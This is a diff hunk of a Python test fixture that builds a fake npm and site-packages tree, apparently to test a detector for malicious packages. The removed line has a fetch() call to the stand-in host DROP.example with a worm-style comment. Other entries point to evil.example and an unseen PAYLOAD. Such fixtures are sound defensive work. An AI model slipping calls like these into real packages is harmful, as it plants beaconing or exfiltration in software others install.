@@ -162,7 +162,7 @@ FILES = {
     "node_modules/outer/index.js": "require('inner')\n",
     "node_modules/inner/package.json": '{"name": "inner", "version": "1.0.0"}',
     "node_modules/inner/bundle.js": PAYLOAD,
-    "node_modules/inner/index.js": "// é\nfetch('https://DROP.example/path/1') // Bow to the worm\n",
+    "node_modules/inner/index.js": "// é\nat = ['https://DROP.example/path/1'] // Bow to the worm\n",
     f"{SITE}/lib-1.0.dist-info/METADATA": "Metadata-Version: 2.1\nName: lib\nVersion: 1.0\n",
     f"{SITE}/lib-1.0.dist-info/RECORD": "odd_name/__init__.py,,\nlib-1.0.dist-info/METADATA,,\n",
     f"{SITE}/odd_name/__init__.py": "HOST = 'evil.example'\n",
